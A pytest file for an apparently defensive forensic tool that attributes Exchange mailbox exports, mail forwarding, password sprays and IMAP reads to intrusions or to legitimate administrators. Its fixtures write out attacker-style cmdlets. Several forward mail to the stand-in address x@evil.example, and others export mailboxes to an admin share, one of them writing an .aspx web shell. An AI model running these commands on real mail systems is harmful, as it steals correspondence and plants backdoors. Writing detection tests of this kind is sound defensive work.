"""Mail taken by cmdlet, passwords sprayed, and IMAP: what is laid to an intrusion, and what people do by right."""

from __future__ import annotations

from collections.abc import Sequence
from datetime import timedelta
from pathlib import Path
from xml.sax.saxutils import escape

import pytest
from tests.scope.office import DAYS, FOREIGN, NETWORK, PEOPLE, START, attended, facts, log_of, reasoned, visits
from tests.scope.staged import iis_place, security_log, stage, text_log, ual_json
from tests.scope.test_scope_marked import marking
from tests.scope.test_scope_silences import act

from dwell.answers.assemble import assemble
from dwell.model.claims import EXPOSED, Grade
from dwell.scope.investigation import Investigation
from dwell.scope.takings import Taking, TakingKind, takings_of

STOLEN = PEOPLE[:5]
FILE = "\\\\127.0.0.1\\c$\\x\\{}.pst"
Ran = tuple[str, str, str, str]
"""When, cmdlet, parameters, caller."""


def at(day: int, hour: int, second: int = 0) -> str:
    return f"{START + timedelta(days=day, hours=hour, seconds=second):%Y-%m-%d %H:%M:%S}"


def managed(ran: Sequence[Ran], *, event: int = 1) -> str:
    events = []
    for number, (at, cmdlet, told, caller) in enumerate(ran, 1):
        data = "".join(f"<Data>{escape(one)}</Data>" for one in (cmdlet, told, caller))
        events.append({"number": number, "event": event, "at": at, "provider": "MSExchange CmdletLogs",
                       "user_data": f"<EventData>{data}</EventData>"})  # fmt: skip
    return security_log(events, channel="MSExchange Management")


def _export(person: str, day: int, hour: int, second: int = 0, *, caller: str = "gov.example/Admins/adm") -> Ran:
    told = f'-Mailbox "{person}" -FilePath "{FILE.format(person[:3])}"'
    return at(day, hour, second), "New-MailboxExportRequest", told, caller


def _taken(root: Path, ran: Sequence[Ran], **more: int) -> tuple[Taking, ...]:
    staged = stage(root, {"EX01/management.xml": managed(ran, **more)})
    return takings_of(staged.archive, lambda text: text or None)


def test_exports_and_forwarding_are_read_with_whose_and_where_to(tmp_path: Path) -> None:
    rule = ' -Name "." -ForwardTo "x@evil.example"'
    found = _taken(
        tmp_path,
        [
            _export("anna", 1, 9),
            (
                at(2, 9),
                "Set-Mailbox",
                '-Identity "otto" -ForwardingSmtpAddress "smtp:x@evil.example"',
                "gov/Users/otto",
            ),
            (at(3, 9), "New-InboxRule", f'-Mailbox "ines"{rule}', "gov/Users/ines"),
            # without a mailbox named, it is that of whoever ran it
            (at(4, 9), "New-InboxRule", rule, "gov/Users/emma"),
        ],
    )
    told = [(one.kind, one.mailbox, one.where) for one in found]
    assert told == [
        (TakingKind.EXPORT, "anna", FILE.format("ann")),
        (TakingKind.FORWARDING, "otto", "smtp:x@evil.example"),
        (TakingKind.FORWARDING, "ines", "x@evil.example"),
        (TakingKind.FORWARDING, "emma", "x@evil.example"),
    ]


@pytest.mark.parametrize(
    "ran",
    [
        # a page that is written is a web shell, no copy of a mailbox
        ("New-MailboxExportRequest", '-Mailbox "anna" -FilePath "\\\\127.0.0.1\\c$\\x\\a.aspx"'),
        ("New-MailboxExportRequest", '-Mailbox "anna" -FilePath "\\\\x\\a.pst" -WhatIf'),
        ("Set-Mailbox", '-Identity "anna" -ForwardingSmtpAddress $null'),
        ("Set-Mailbox", '-Identity "anna" -ProhibitSendQuota "10GB"'),
        ("New-InboxRule", '-Mailbox "anna" -Name "News" -MoveToFolder "News"'),
        ("Get-MailboxExportRequest", '-Mailbox "anna"'),
        ("Search-Mailbox", '-Identity "anna" -TargetMailbox "otto" -EstimateResultOnly'),
        ("Search-Mailbox", '-Identity "anna" -SearchQuery "x" -DeleteContent'),
        ("New-MailboxSearch", '-Name "s" -EstimateOnly'),
        ("New-ComplianceSearchAction", '-SearchName "s" -Purge'),
        ("New-TransportRule", '-Name "footer" -ApplyHtmlDisclaimerText "x"'),
        ("Set-JournalRule", '-Identity "j" -Enabled $false'),
    ],
)
def test_what_takes_no_mail_is_none(ran: tuple[str, str], tmp_path: Path) -> None:
    assert _taken(tmp_path, [(at(1, 9), *ran, "gov/Admins/adm")]) == ()


def test_a_cmdlet_that_failed_took_nothing(tmp_path: Path) -> None:
    assert _taken(tmp_path, [_export("anna", 1, 9)], event=6) == ()


def test_one_act_in_two_logs_is_one(tmp_path: Path) -> None:
    fields = "DateTime,StartTime,AuthenticatedUser,Cmdlet,Parameters,ExecutionResult"
    told = f'-Mailbox "anna" -FilePath "{FILE.format("ann")}"'
    row = {"DateTime": at(1, 9, 4).replace(" ", "T") + ".000Z", "AuthenticatedUser": "GOV\\adm",
           "Cmdlet": "New-MailboxExportRequest", "Parameters": told.replace('"', '""').join('""'),
           "ExecutionResult": "Success"}  # fmt: skip
    log = text_log("Rps Cmdlet Logs", fields, [row])
    staged = stage(tmp_path, {"EX01/management.xml": managed([_export("anna", 1, 9)]), "EX01/Rps_Cmdlet_1.LOG": log})
    (one,) = takings_of(staged.archive, lambda text: text or None)
    assert {ref.table for ref in one.grounds} == {"evtx", "rps_cmdlet"}


def _office(root: Path, rows: list[dict[str, object]], ran: Sequence[Ran]) -> Investigation:
    files: dict[str, str | bytes] = {iis_place("EX01", "210104"): log_of(attended() + rows)}
    return reasoned(stage(root, files | {"EX01/management.xml": managed(ran)}))


def _console(days: range, *, client: str, hour: int = 10) -> list[dict[str, object]]:
    return visits("GOV\\adm", client, "WinRM", days, hour=hour, stem="/powershell")


def test_exports_in_remote_powershell_from_where_the_account_never_works_are_an_intrusion(tmp_path: Path) -> None:
    rows = _console(range(0, DAYS, 2), client="10.1.1.40") + _console(range(41, 42), client=f"{NETWORK}.14", hour=3)
    ran = [_export(one, 41, 3, 20 + place) for place, one in enumerate(STOLEN)]
    case = _office(tmp_path, rows, [*ran, _export(PEOPLE[9], 20, 10, 20)])
    (held,) = case.held
    assert held.clients == (f"{NETWORK}.14",)
    assert {one.mailbox: one.grade for one in case.exposed} == dict.fromkeys(STOLEN, Grade.DOWNLOADED)
    assert not held.exploited


@pytest.mark.parametrize(
    ("people", "elsewhere", "here"),
    [
        # two mailboxes are a leaver's and a case of law
        (STOLEN[:2], range(0, DAYS, 2), range(41, 42)),
        # where it works otherwise is not known
        (STOLEN, range(38, 41), range(41, 42)),
        # it works from there every other day
        (STOLEN, range(0, DAYS, 2), range(1, DAYS, 2)),
    ],
)
def test_an_administrator_who_may_is_no_intrusion_and_is_told(
    people: Sequence[str], elsewhere: range, here: range, tmp_path: Path
) -> None:
    rows = _console(elsewhere, client="10.1.1.40") + _console(here, client=f"{NETWORK}.14", hour=3)
    ran = [_export(one, 41, 3, 20 + place) for place, one in enumerate(people)]
    staged = stage(
        tmp_path,
        {iis_place("EX01", "210104"): log_of(attended() + rows), "EX01/management.xml": managed(ran)},
    )
    case = reasoned(staged)
    assert case.held == ()
    assert len(case.takings) == len(people)
    found = assemble(case, facts(staged))
    assert not [one for one in found.mailboxes if one.grade in EXPOSED]
    text = " ".join(claim.text for claim in found.claims)
    assert "exported to files by adm" in text
    assert "laid to no known intrusion" in text


def readers(days: range) -> list[dict[str, object]]:
    return [row for one in STOLEN for row in visits(one, f"{NETWORK}.14", FOREIGN, days, hour=3)]


def test_mail_sent_on_in_an_intruders_session_is_his_and_what_owners_set_is_theirs(tmp_path: Path) -> None:
    told = '-ForwardingSmtpAddress "smtp:x@evil.example"'
    his = (at(20, 3, 60), "Set-Mailbox", f'-Identity "{STOLEN[0]}" {told}', f"gov/Users/{STOLEN[0]}")
    later = (at(20, 14), "Set-Mailbox", f'-Identity "{STOLEN[1]}" {told}', f"gov/Users/{STOLEN[1]}")
    other = (at(20, 3, 60), "Set-Mailbox", f'-Identity "{PEOPLE[9]}" {told}', f"gov/Users/{PEOPLE[9]}")
    case = _office(tmp_path, readers(range(20, 44, 3)), [his, later, other])
    grades = {one.mailbox: one.grade for one in case.exposed}
    assert set(grades) == set(STOLEN)
    assert {name for name, grade in grades.items() if grade is Grade.DOWNLOADED} == {STOLEN[0]}


def _rule(person: str, at: str, goal: str, *, caller: str = "", cmdlet: str = "New-InboxRule") -> Ran:
    told = f'-Mailbox "{person}" -Name "." -ForwardTo "{goal}"'
    return at, cmdlet, told, f"gov/Users/{caller or person}"


@pytest.mark.parametrize(
    ("his", "day", "exposed"),
    [
        (2, 25, {PEOPLE[9]}),
        (1, 25, set()),
        # somebody of the house sent mail there before he came
        (2, 9, set()),
    ],
)
def test_mail_sent_on_to_where_his_acts_send_it_is_his(his: int, day: int, exposed: set[str], tmp_path: Path) -> None:
    told = '-ForwardingSmtpAddress "smtp:x@evil.example"'
    ran = [(at(20, 3, 60), "Set-Mailbox", f'-Identity "{one}" {told}', f"gov/Users/{one}") for one in STOLEN[:his]]
    ran.append(_rule(PEOPLE[9], at(day, 15), "X@evil.example", caller="adm"))
    # that he tries the address as a user makes it none of the house's
    tried = visits("x@evil.example", f"{NETWORK}.14", FOREIGN, [20], hour=3, status=401)
    case = _office(tmp_path, readers(range(20, 44, 3)) + tried, ran)
    assert {one.mailbox for one in case.exposed if one.grade in EXPOSED} == {*STOLEN, *exposed}


@pytest.mark.parametrize(
    "goal", ["archive@gov.example", '"Archive" [SMTP:Archive@lists.gov.example]', "gov.example/Users/boss", PEOPLE[23]]
)
def test_what_goes_within_the_house_draws_nobody_in(goal: str, tmp_path: Path) -> None:
    ran = [_rule(one, at(20, 3, 60), goal) for one in STOLEN[:2]]
    ran += [_rule(one, at(25, 10), goal) for one in PEOPLE[10:20]]
    case = _office(tmp_path, readers(range(20, 44, 3)), ran)
    assert {one.mailbox for one in case.exposed} == set(STOLEN)


def test_a_rule_and_its_change_are_of_one_mailbox_and_draw_nobody_in(tmp_path: Path) -> None:
    owner, goal = STOLEN[0], "desk@service.example"
    ran = [_rule(owner, at(20, 3, 60), goal), _rule(owner, at(20, 3, 240), goal, cmdlet="Set-InboxRule")]
    ran += [_rule(one, at(25, 10), goal) for one in PEOPLE[10:20]]
    case = _office(tmp_path, readers(range(20, 44, 3)), ran)
    assert {one.mailbox for one in case.exposed} == set(STOLEN)


@pytest.mark.parametrize(("each", "intrusions"), [(2, 1), (1, 2)])
def test_two_intrusions_that_send_mail_on_to_one_address_are_one(each: int, intrusions: int, tmp_path: Path) -> None:
    other, agent = "100.99.7", "Other/3"
    groups = {NETWORK: (FOREIGN, PEOPLE[:4]), other: (agent, PEOPLE[10:14])}
    rows = [
        row
        for network, (tool, people) in groups.items()
        for one in people
        for row in visits(one, f"{network}.14", tool, range(20, 44, 3), hour=3)
    ]
    told = '-ForwardingSmtpAddress "smtp:x@evil.example"'
    ran = [
        (at(20, 3, 60), "Set-Mailbox", f'-Identity "{one}" {told}', f"gov/Users/{one}")
        for _, people in groups.values()
        for one in people[:each]
    ]
    case = _office(tmp_path, rows, ran)
    assert [one.id for one in case.held] == [f"I{place}" for place in range(1, intrusions + 1)]
    assert {one.mailbox for one in case.exposed} == {*PEOPLE[:4], *PEOPLE[10:14]}
    if intrusions == 1:
        (held,) = case.held
        assert len(held.clients) == 2
        assert any("send mail on to x@evil.example" in one for one in held.links)
        assert len(held.takings) == len({one.grounds for one in held.takings}) == 2 * each


_SHARED = PEOPLE[20]


@pytest.mark.parametrize(
    "ran",
    [
        pytest.param([_rule(one, at(20, 3, 60), "archive@gov.example") for one in (*PEOPLE[:2], *PEOPLE[10:12])],
                     id="within the house"),
        pytest.param([_rule(one, at(20, 3, 60 * place), "desk@service.example", cmdlet=cmdlet)
                      for one in (PEOPLE[0], PEOPLE[10])
                      for place, cmdlet in enumerate(("New-InboxRule", "Set-InboxRule"), 1)],
                     id="one mailbox each, rule and change"),
        pytest.param([_rule(one, at(20, 3, 60), "desk@service.example", caller=_SHARED) for one in PEOPLE[21:23]],
                     id="the same acts tied to both"),
        pytest.param([_rule(PEOPLE[22], at(9, 10), "desk@service.example"),
                      *(_rule(one, at(20, 3, 60), "desk@service.example") for one in (*PEOPLE[:2], *PEOPLE[10:12]))],
                     id="the house sent mail there before"),
    ],
)  # fmt: skip
def test_what_does_not_tell_of_one_hand_makes_no_two_intrusions_one(ran: Sequence[Ran], tmp_path: Path) -> None:
    groups = {NETWORK: (FOREIGN, (*PEOPLE[:4], _SHARED)), "100.99.7": ("Other/3", (*PEOPLE[10:14], _SHARED))}
    rows = [
        row
        for network, (tool, people) in groups.items()
        for one in people
        for row in visits(one, f"{network}.14", tool, range(20, 44, 3), hour=3)
    ]
    case = _office(tmp_path, rows, ran)
    assert [len(one.clients) for one in case.held] == [1, 1]
    assert all(one.takings for one in case.held)


@pytest.mark.parametrize(
    ("before", "intrusions"),
    [
        # a visit of his own, of which nothing else is known
        pytest.param([("198.51.100.7", [9], 15)], 1, id="from a place its owner never was at"),
        pytest.param([("198.51.100.7", [9], 15), (f"198.19.{PEOPLE.index(_SHARED) + 1}.7", [9], 15)], 2,
                     id="its owner is at home at the time"),
        pytest.param([("198.51.100.7", [2, *range(5, 14)], 15)], 2, id="its owner stays there for ten days"),
        pytest.param([("10.1.1.77", [9], 15)], 2, id="from inside"),
        pytest.param([], 2, id="from where no record says"),
    ],
)  # fmt: skip
def test_what_was_sent_on_from_where_nobody_lives_is_not_the_houses(
    before: Sequence[tuple[str, list[int], int]], intrusions: int, tmp_path: Path
) -> None:
    someone = PEOPLE[PEOPLE.index(_SHARED) + 1]
    groups = {NETWORK: (FOREIGN, PEOPLE[:4]), "100.99.7": ("Other/3", PEOPLE[10:14])}
    rows = [
        row
        for network, (tool, people) in groups.items()
        for one in people
        for row in visits(one, f"{network}.14", tool, range(20, 44, 3), hour=3)
    ]
    rows += [row for client, days, hour in before for row in visits(someone, client, "Chrome/63", days, hour=hour)]
    goal = "desk@service.example"
    ran = [
        _rule(someone, at(9, 15, 60), goal),
        *(_rule(one, at(20, 3, 60), goal) for one in (*PEOPLE[:2], *PEOPLE[10:12])),
    ]
    case = _office(tmp_path, rows, ran)
    assert len(case.held) == intrusions
    # what goes to an address of the intruder's, and was set from where its owner never was, is the intruder's
    more = {someone} if intrusions == 1 else set()
    assert {one.mailbox for one in case.exposed if one.grade in EXPOSED} == {*PEOPLE[:4], *PEOPLE[10:14], *more}


@pytest.mark.parametrize(
    ("client", "intrusions"), [("198.51.100.7", 1), (f"198.19.{PEOPLE.index(_SHARED) + 1}.7", 2), ("10.1.1.77", 2)]
)
def test_the_address_that_a_record_has_says_where_an_act_was_run(client: str, intrusions: int, tmp_path: Path) -> None:
    groups = {NETWORK: (FOREIGN, PEOPLE[:4]), "100.99.7": ("Other/3", PEOPLE[10:14])}
    rows = [
        row
        for network, (tool, people) in groups.items()
        for one in people
        for row in visits(one, f"{network}.14", tool, range(20, 44, 3), hour=3)
    ]
    goal, someone = "desk@service.example", PEOPLE[PEOPLE.index(_SHARED) + 1]
    ran = [_rule(one, at(20, 3, 60), goal) for one in (*PEOPLE[:2], *PEOPLE[10:12])]
    first = act(at(9, 15, 60), "New-InboxRule", someone, Mailbox=someone, ForwardTo=goal)
    first |= {"UserId": someone, "ClientIP": client}
    files: dict[str, str | bytes] = {iis_place("EX01", "210104"): log_of(attended() + rows)}
    files |= {"EX01/management.xml": managed(ran), "ual.json": ual_json([first])}
    assert len(reasoned(stage(tmp_path, files)).held) == intrusions


@pytest.mark.parametrize(
    ("told", "holder"),
    [
        ('-Identity "p15@gov.example\\Holiday"', "p15@gov.example"),
        ('-Identity "gov.example/Users/otto\\Holiday/leave"', "otto"),
        ('-Identity "GOV\\otto\\Holiday"', "gov\\otto"),
        # a backslash in the rule's name
        ('-Identity "otto@gov.example\\a\\b"', "otto@gov.example"),
        ('-Mailbox "emma" -Identity "Holiday"', "emma"),
        # without a mailbox named, it is that of whoever ran it
        ('-Identity "Holiday"', "anna"),
    ],
)
def test_a_rule_that_is_changed_is_of_the_mailbox_that_its_name_begins_with(
    told: str, holder: str, tmp_path: Path
) -> None:
    (one,) = _taken(tmp_path, [(at(1, 9), "Set-InboxRule", f'{told} -ForwardTo "x@evil.example"', "gov/Users/anna")])
    assert one.mailbox == holder


@pytest.mark.parametrize(
    ("cmdlet", "told", "kind", "mailboxes", "part"),
    [
        ("New-TransportRule", '-BlindCopyTo "x@evil.example" -SentTo "anna"', TakingKind.FLOW, [""], "SentTo anna"),
        ("Set-JournalRule", '-Identity "j" -JournalEmailAddress "x@evil.example"', TakingKind.FLOW, [""], ""),
        ("Search-Mailbox", '-Identity "anna" -TargetMailbox "otto"', TakingKind.COPY, ["anna"], ""),
        ("Search-Mailbox", '-Identity "anna" -TargetMailbox "otto" -LogOnly', TakingKind.LISTING, ["anna"], ""),
        (
            "New-MailboxSearch",
            '-SourceMailboxes "anna","emma" -TargetMailbox "otto"',
            TakingKind.COPY,
            ["anna", "emma"],
            "",
        ),
        ("New-MailboxSearch", '-Name "s" -TargetMailbox "otto"', TakingKind.COPY, [""], ""),
        ("New-MailboxSearch", '-Name "s" -SourceMailboxes "anna"', TakingKind.SEARCH, [""], ""),
        ("New-ComplianceSearchAction", '-SearchName "s" -Export', TakingKind.SEARCH, [""], "s"),
    ],
)
def test_copies_searches_and_rules_of_the_organisation_are_read(
    cmdlet: str, told: str, kind: TakingKind, mailboxes: list[str], part: str, tmp_path: Path
) -> None:
    found = _taken(tmp_path, [(at(1, 9), cmdlet, told, "gov/Admins/adm")])
    assert [(one.kind, one.mailbox, one.part) for one in found] == [(kind, each, part) for each in mailboxes]


@pytest.mark.parametrize(
    ("operation", "told", "mailbox"),
    [
        ("Set-Mailbox", {"Identity": "otto", "ForwardingSmtpAddress": "smtp:x@evil.example"}, "otto"),
        ("New-InboxRule", {"Name": ".", "ForwardTo": "x@evil.example"}, "ines@gov.example"),
    ],
)
def test_what_the_tenant_sends_on_is_taken_too(
    operation: str, told: dict[str, str], mailbox: str, tmp_path: Path
) -> None:
    record = act("2021-01-10 00:00:00", operation, "otto", **told) | {"UserId": "ines@gov.example"}
    staged = stage(tmp_path, {"UAL.json": ual_json([record])})
    (one,) = takings_of(staged.archive, lambda text: text or None)
    assert (one.mailbox, one.host, one.account) == (mailbox, "M365", "ines@gov.example")
    assert one.kind is TakingKind.FORWARDING


def _tried(people: Sequence[str], *, day: int = 19, let_in: Sequence[str] = ()) -> list[dict[str, object]]:
    rows: list[dict[str, object]] = []
    for place, one in enumerate(people):
        at = {"hour": 2, "stem": "/EWS/Exchange.asmx", "status": 200 if one in let_in else 401}
        rows += visits(one, f"{NETWORK}.{14 + place % 2}", "Sprayer/1.0", [day], **at)  # type: ignore[arg-type]
    return rows


def test_a_spray_that_let_somebody_in_is_told_as_the_entry(tmp_path: Path) -> None:
    rows = _tried(PEOPLE, let_in=STOLEN) + readers(range(20, 44, 3))
    case = _office(tmp_path, rows, [])
    (spray,) = case.sprays
    assert (spray.tried, spray.let_in) == (len(PEOPLE), tuple(sorted(STOLEN)))
    (held,) = case.held
    assert held.first_utc == START + timedelta(days=19, hours=2)


@pytest.mark.parametrize(
    ("let_in", "day", "agents", "first"),
    [
        # from two networks that nobody uses afterwards: whom they let in is whom he reads
        (PEOPLE[:10], 19, ("Sprayer/1.0", "Sprayer/1.0"), 19),
        # some of his accounts, and others; tools that have nothing in common; after he came
        (PEOPLE[6:16], 19, ("Sprayer/1.0", "Sprayer/1.0"), 20),
        (PEOPLE[:10], 19, ("Sprayer/1.0", "Other/2.0"), 20),
        (PEOPLE[:10], 30, ("Sprayer/1.0", "Sprayer/1.0"), 20),
    ],
)
def test_sprays_from_elsewhere_are_whose_accounts_they_let_in(
    let_in: Sequence[str], day: int, agents: tuple[str, str], first: int, tmp_path: Path
) -> None:
    rows = [row for one in PEOPLE[:10] for row in visits(one, f"{NETWORK}.14", FOREIGN, range(20, 44, 3), hour=3)]
    for place, agent in enumerate(agents):
        told = {"client": f"100.9{place}.4.14", "agent": agent}
        rows += [row | told for row in _tried(PEOPLE, day=day, let_in=let_in[place::2])]
    case = _office(tmp_path, rows, [])
    assert len(case.sprays) == 2
    held = case.held[0]
    assert held.first_utc == START + timedelta(days=first, hours=2 if first == 19 else 3)
    assert any("passwords were tried from 2 networks" in one for one in held.links) == (first == 19)


def test_sprays_that_the_house_calls_its_own_are_no_intruders(tmp_path: Path) -> None:
    rows = [row for one in PEOPLE[:10] for row in visits(one, f"{NETWORK}.14", FOREIGN, range(20, 44, 3), hour=3)]
    for place in range(2):
        told = {"client": f"100.9{place}.4.14"}
        rows += [row | told for row in _tried(PEOPLE, let_in=PEOPLE[place:10:2])]
    staged = stage(tmp_path, {iis_place("EX01", "210104"): log_of(attended() + rows)})
    ours = [marking(f"100.9{place}.4.0/24", name=f"M{place + 1}") for place in range(2)]
    (theirs,), (held,) = reasoned(staged).held, reasoned(staged, markings=ours).held
    assert theirs.first_utc == START + timedelta(days=19, hours=2)
    assert held.first_utc == START + timedelta(days=20, hours=3)
    assert not any("passwords were tried" in one for one in held.links)


@pytest.mark.parametrize(
    ("people", "let_in"),
    [
        (PEOPLE, ()),
        # a few who mistype
        (PEOPLE[:9], PEOPLE[:1]),
        # a gateway whose people sign in, and some of them mistype
        (PEOPLE, PEOPLE[:14]),
    ],
)
def test_what_is_no_spray_with_success_is_none(people: Sequence[str], let_in: Sequence[str], tmp_path: Path) -> None:
    assert _office(tmp_path, _tried(people, let_in=let_in), []).sprays == ()


_IMAP = "dateTime,sessionId,seqNumber,sIp,cIp,user,duration,rqsize,rpsize,command,parameters,context,puid"


def _imap(person: str, client: str, days: range, hour: int) -> list[dict[str, object]]:
    return [
        {
            "dateTime": at(day, hour, place).replace(" ", "T") + ".000Z",
            "sessionId": f"{person[:3]}{day}{client[-3:]}",
            "seqNumber": place,
            "sIp": "10.0.0.11:993",
            "cIp": f"{client}:50000",
            "user": person,
            "command": command,
            "parameters": told,
            "context": "R=OK",
            "rpsize": 900,
        }
        for day in days
        for place, (command, told) in enumerate((("login", f"{person} *****"), ("fetch", "1:9 (BODY.PEEK[])")))
    ]


def _by_imap(root: Path, rows: list[dict[str, object]]) -> Investigation:
    log = text_log("IMAP4 Log", _IMAP, sorted(rows, key=lambda one: (str(one["dateTime"]), str(one["sessionId"]))))
    return reasoned(stage(root, {iis_place("EX01", "210104"): log_of(attended()), "EX01/IMAP4_1.LOG": log}))


def _at_home() -> list[dict[str, object]]:
    return [row for place in range(15, 24) for row in _imap(PEOPLE[place], f"198.19.{place}.7", range(DAYS), 20)]


def test_imap_from_one_place_for_accounts_that_never_speak_it_is_an_intrusion(tmp_path: Path) -> None:
    rows = [row for one in STOLEN for row in _imap(one, f"{NETWORK}.14", range(20, 44, 3), 3)]
    case = _by_imap(tmp_path, _at_home() + rows)
    assert {one.mailbox: one.grade for one in case.exposed} == dict.fromkeys(STOLEN, Grade.READ)
    assert case.held[0].clients == (f"{NETWORK}.0/24 IMAP (no agent is logged)",)


def test_people_who_read_by_imap_at_home_have_nothing_in_common(tmp_path: Path) -> None:
    assert _by_imap(tmp_path, _at_home()).held == ()
